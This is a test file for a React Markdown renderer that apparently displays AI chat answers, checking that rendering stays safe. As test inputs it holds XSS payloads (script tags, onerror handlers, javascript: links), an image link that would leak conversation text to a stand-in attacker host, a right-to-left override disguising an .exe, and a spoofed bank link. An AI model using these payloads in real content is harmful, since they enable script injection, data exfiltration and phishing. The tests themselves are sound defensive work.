/** What an answer becomes on the page: no raw HTML, nothing that is fetched by itself, only links that are safe. */
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { FakeCore, FakeSurroundings } from '../store/fake-core.ts';
import { createWindowStore } from '../store/window-store.ts';
import { WindowProvider } from '../views/window-context.tsx';
import { Markdown } from './markdown.tsx';

const drawn = (text: string, growing = false): string => {
  const window = createWindowStore(new FakeCore(), new FakeSurroundings());
  return renderToStaticMarkup(
    <WindowProvider value={window}>
      <Markdown text={text} growing={growing} />
    </WindowProvider>,
  );
};

test('hostile Markdown becomes words', () => {
  const html = drawn(
    '<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[a](javascript:alert(1)) <a href="javascript:x">b</a>\n\n<style>*{}</style>',
  );
  expect(html).not.toMatch(/<(?:img|script|style|iframe)/);
  expect(html).not.toMatch(/href="?javascript/i);
  expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
});

test('an image is offered as a link and not fetched', () => {
  const html = drawn('![secret](https://evil.example/?q=conversation) ![x](data:image/png;base64,AA)');
  expect(html).not.toMatch(/<img|src=/);
  expect(html).toContain('href="https://evil.example/?q=conversation"');
  expect(html).not.toContain('data:image');
});

test('a link shows where it leads and tells the other page nothing', () => {
  expect(drawn('[here](https://example.org/a)')).toContain(
    '<a href="https://example.org/a" title="https://example.org/a" target="_blank" rel="noopener noreferrer" data-host="example.org">here</a>',
  );
});

test('tables, task lists and code are drawn, in the middle of the writing as well', () => {
  expect(drawn('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<table>');
  expect(drawn('- [x] done')).toContain('type="checkbox"');
  expect(drawn('```js\nlet a = "<b>', true)).toContain('let a = &quot;&lt;b&gt;');
  expect(drawn('- a\n\n  ```py\n  x\n  ```')).toContain('<figcaption><span>Python</span>');
});

test('a block too long to be parsed at every frame is plain while it grows, and rich in the end', () => {
  const text = `**bold** ${'word '.repeat(5000)}`;
  expect(drawn(text, true)).not.toContain('<strong>');
  expect(drawn(text)).toContain('<strong>');
});

test('a footnote is a number that leads to the note at the end of the message, and back', () => {
  const html = drawn('One[^a] and two[^b].\n\n[^a]: first *note*\n\nMore[^a].\n\n[^b]: second');
  expect(html.match(/aria-label="Note 1"/g)).toHaveLength(2);
  expect(html).toContain('first <em>note</em>');
  expect(html.match(/<ol class="notes"/g)).toHaveLength(1);
  expect(html).not.toContain('user-content');
});

test('a link defined elsewhere is a link wherever it stands', () => {
  expect(drawn('See [this][a].\n\nMore.\n\n[a]: https://example.org/x')).toContain(
    'href="https://example.org/x"',
  );
});

test('a character that turns the text around is shown, in words, links and code', () => {
  expect(drawn('annexe\u202Egnp.exe')).toContain('data-code="U+202E"');
  expect(drawn('```js\nif (a \u2066//\u2069) x\n```')).toContain('data-code="U+2066"');
});

test('what looks like another address says where it leads', () => {
  expect(drawn('[https://bank.example](https://evil.example/x)')).toContain('data-host="evil.example"');
  expect(drawn('https://bank.example/x')).not.toContain('data-host');
});
